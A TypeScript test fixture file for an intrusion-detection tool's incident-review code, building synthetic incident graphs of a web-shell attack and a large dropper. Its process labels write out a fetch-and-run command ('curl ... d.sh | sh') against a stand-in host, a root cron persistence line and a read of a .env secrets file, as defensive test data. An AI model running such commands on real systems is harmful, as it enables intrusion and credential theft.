/** Reviews for tests: one of an intrusion, one with hardly anything in it, and stories of any size. */
import type { AuditEntry, Receipt } from '../src/core/action.ts';
import type { Alert } from '../src/core/alert.ts';
import type { Finding } from '../src/core/finding.ts';
import type { IncidentRecord } from '../src/core/incident-store.ts';
import type { Story, StoryEdge, StoryNode } from '../src/core/incident.ts';
import type { Review } from '../src/core/review.ts';
import { digestOf } from '../src/engine/incident/digest.ts';
import { noFacts } from '../src/engine/incident/facts.ts';
import { reviewOf, type ReviewInput } from '../src/engine/incident/review.ts';

export const began = Date.UTC(2026, 10, 22, 2);
const minute = 60_000;
/** UTC, so that golden facts hold in any zone. */
export const utc = (ms: number): string => new Date(ms).toISOString().slice(0, 19).replace('T', ' ');

export const recordOf = (more: Partial<IncidentRecord> = {}): IncidentRecord => ({
  id: 'ab12cd34ef56', revision: 3, kind: 'story', shown: true, host: 'web1', title: { zh: '网站木马运行了命令（203.0.113.9）', en: 'a web shell ran commands (203.0.113.9)' }, status: 'triaged', level: 'critical', grade: 1,
  graded: [{ time: began + 3 * minute, level: 'critical', grade: 1, why: { zh: '核心业务受害', en: 'core business is hit' } }], time: began, last_time: began + 20 * minute, alert_count: 2, finding_count: 1,
  facts: { ...noFacts, founds: true, worst: 'critical', tactics: { 'initial-access': began, 'execution': began + minute, 'credential-access': began + 4 * minute }, techniques: ['T1059', 'T1190', 'T1505.003', 'T1552'], root: false, accounts: ['www-data'], addresses: ['203.0.113.9'], services: ['web nginx'] },
  created: began + 3 * minute, changed: began + 20 * minute, since: began + 5 * minute, notes: [], tasks: [], tags: [], links: [],
  clock: { started: began + 3 * minute, due: began + 243 * minute, why: { zh: '核心业务受害', en: 'core business is hit' }, told: [] }, ...more,
});

const node = (kind: StoryNode['kind'], id: string, label: string, at: number, facts: StoryNode['facts'] = {}, more: Partial<StoryNode> = {}): StoryNode => ({ id: `${kind}:${id}`, kind, label, first: began + at * minute, last: began + at * minute, facts, ...more });
const edge = (from: string, to: string, deed: StoryEdge['deed'], at: number): StoryEdge => ({ from, to, deed, first: began + at * minute, last: began + at * minute, count: 1 });

/** `hostile` stands wherever somebody else chose the words. */
export function intrusion(hostile = ''): Story {
  return {
    entry: { kind: 'web', time: began, node: 'process:900:1', address: '203.0.113.9', service: 'nginx', request: `POST /up.php${hostile}`, text: { zh: `从 203.0.113.9 经由网站服务 nginx：POST /up.php${hostile}`, en: `through the web server nginx from 203.0.113.9: POST /up.php${hostile}` } },
    nodes: [
      node('process', '900:1', 'php-fpm: pool www', -600, { chain: true, path: '/usr/sbin/php-fpm8.2' }), node('address', '203.0.113.9', '203.0.113.9', 0, { ip: '203.0.113.9', came: true, alarmed: true }),
      node('process', '901:2', `sh -c curl http://198.51.100.7/d.sh | sh${hostile}`, 1, { path: '/bin/sh', seed: true }, { attack: ['T1059'] }), node('process', '902:3', 'curl http://198.51.100.7/d.sh', 1, { path: '/usr/bin/curl' }),
      node('address', '198.51.100.7', '198.51.100.7 (drop.example)', 1, { ip: '198.51.100.7', called: true, port: 8080, host: 'drop.example' }), node('process', '903:4', `/var/tmp/.x${hostile}`, 2, { path: `/var/tmp/.x${hostile}`, seed: true }, { lives: true, attack: ['T1496'] }),
      node('file', '/var/tmp/.x', `/var/tmp/.x${hostile}`, 2, { path: '/var/tmp/.x', made: true, sha256: 'a'.repeat(64) }, { lives: true }), node('persistence', '/etc/cron.d/x:1', `/etc/cron.d/x:1: * * * * * root /var/tmp/.x${hostile}`, 3, { path: '/etc/cron.d/x', line: 1, planted: true }, { lives: true, attack: ['T1053.003'] }),
      node('secret', '/var/www/.env', '/var/www/.env', 4, { path: '/var/www/.env' }), node('address', '10.0.0.5', '10.0.0.5', 5, { ip: '10.0.0.5', called: true, port: 22 }), node('name', 'deb.example', 'deb.example', 1, { name: 'deb.example' }),
      node('alert', 'al1', 'web shell', 1, { level: 'critical', rule: 'webshell' }, { attack: ['T1505.003'] }), node('alert', 'al2', 'drop', 2, { level: 'high', rule: 'drop' }, { attack: ['T1059'] }),
    ],
    edges: [
      edge('address:203.0.113.9', 'process:900:1', 'spoke', 0), edge('process:900:1', 'process:901:2', 'started', 1), edge('process:901:2', 'process:902:3', 'started', 1), edge('process:902:3', 'address:198.51.100.7', 'spoke', 1), edge('process:902:3', 'name:deb.example', 'asked', 1),
      edge('process:901:2', 'process:903:4', 'started', 2), edge('process:901:2', 'file:/var/tmp/.x', 'wrote', 2), edge('process:903:4', 'file:/var/tmp/.x', 'ran', 2), edge('process:903:4', 'persistence:/etc/cron.d/x:1', 'planted', 3), edge('process:903:4', 'secret:/var/www/.env', 'read', 4),
      edge('process:903:4', 'address:10.0.0.5', 'spoke', 5), edge('alert:al1', 'process:901:2', 'tells', 1), edge('alert:al2', 'process:903:4', 'tells', 2), edge('alert:al2', 'address:198.51.100.7', 'tells', 2),
    ],
    gaps: [{ kind: 'down', from: began - 60 * minute, to: began - 30 * minute, what: { zh: `这段时间 Moat 没有运行${hostile}`, en: `Moat did not run then${hostile}` } }], echoes: [], began: began + minute, ended: began + 5 * minute, left: 0,
  };
}

/** A story of so many things: a dropper that starts, writes and calls. */
export function large(n: number): Story {
  const nodes: StoryNode[] = [node('process', '1:1', 'sshd: root@pts/0', 0, { chain: true, path: '/usr/sbin/sshd' }), node('process', '2:2', '/tmp/drop', 0, { path: '/tmp/drop', seed: true })];
  const edges: StoryEdge[] = [edge('process:1:1', 'process:2:2', 'started', 0)];
  let parent = 'process:2:2';
  for (let i = 0; nodes.length < n; i++) {
    const id = `process:${i + 10}:${i}`;
    nodes.push(node('process', `${i + 10}:${i}`, `/tmp/.w${i % 7}/worker --id ${i}`, i / 100, { path: `/tmp/.w${i % 7}/worker` }));
    edges.push(edge(parent, id, 'started', i / 100));
    if (i % 50 === 0) parent = id;
    if (nodes.length < n) { nodes.push(node('file', `/srv/data/${i}.enc`, `/srv/data/${i}.enc`, i / 100, { path: `/srv/data/${i}.enc`, made: true })); edges.push(edge(id, `file:/srv/data/${i}.enc`, 'wrote', i / 100)); }
    if (i % 20 === 0 && nodes.length < n) { const ip = `198.51.${100 + (i >> 8) % 100}.${i & 255}`; nodes.push(node('address', `${ip}#${i}`, ip, i / 100, { ip, called: true, port: 4444 })); edges.push(edge(id, `address:${ip}#${i}`, 'spoke', i / 100)); }
  }
  return { entry: { kind: 'login', time: began, node: 'process:1:1', address: '203.0.113.9', user: 'root', text: { zh: 'root 从 203.0.113.9 远程登录', en: 'log-on of root from 203.0.113.9' } }, nodes, edges, gaps: [], echoes: [], began, ended: began + n * 600, left: 0 };
}

export const alertFor = (id: string, more: Partial<Alert> = {}): Alert => ({ id, time: began + minute, last_time: began + minute, level: 'critical', rule_id: 'webshell', rule_name: 'web shell', title: { zh: '网站木马', en: 'web shell' }, host: 'web1', summary: 'sh -c curl', count: 1, attack: ['T1505.003', 'T1190'], matrix: [], key: 'k', status: 'open', evidence: [], ...more });
export const findingFor = (id: string, more: Partial<Finding> = {}): Finding => ({ id, check: 'sshd', kind: 'weakness', level: 'medium', title: { zh: 'sshd 允许口令登录', en: 'sshd takes passwords' }, path: '/etc/ssh/sshd_config', evidence: [], refs: [], time: began - 90 * 86_400_000, ...more });
export const auditFor = (operation: string, result: string, at: number, more: Partial<AuditEntry> = {}): AuditEntry => ({ seq: at, time: began + at * minute, by: 'operator:li', via: 'control', operation, target: 'ab12cd34ef56', why: '', result, hash: '', ...more });
const receiptFor = (id: string, at: number, more: Partial<Receipt> = {}): Receipt => ({ id, action: 'block-address', target: '203.0.113.9', title: { zh: '封禁 203.0.113.9', en: 'block 203.0.113.9' }, status: 'applied', steps: [], risk: 'low', reversible: true, state: {}, created: began + at * minute, changed: began + at * minute, by: 'operator:li', why: 'webshell', history: [], ...more });

export function reviewFor(more: Partial<ReviewInput> = {}, hostile = ''): Review {
  const record = more.record ?? recordOf();
  return reviewOf({
    record, alerts: [alertFor('al1'), alertFor('al2', { level: 'high', title: { zh: '下载并运行', en: 'fetched and run' } })], findings: [findingFor('f1')], receipts: [receiptFor('r1', 6)],
    audit: [auditFor('incident-formed', 'critical', 3), auditFor('incident-status', 'new → triaged', 5), auditFor('incident-status', 'triaged → contained', 13), auditFor('incident-status', 'contained → recovered', 63)],
    story: digestOf(intrusion(hostile), began + 30 * minute), evidence: [], place: {}, now: began + 100 * minute, version: '0.1.0', clock: utc, ...more,
  });
}
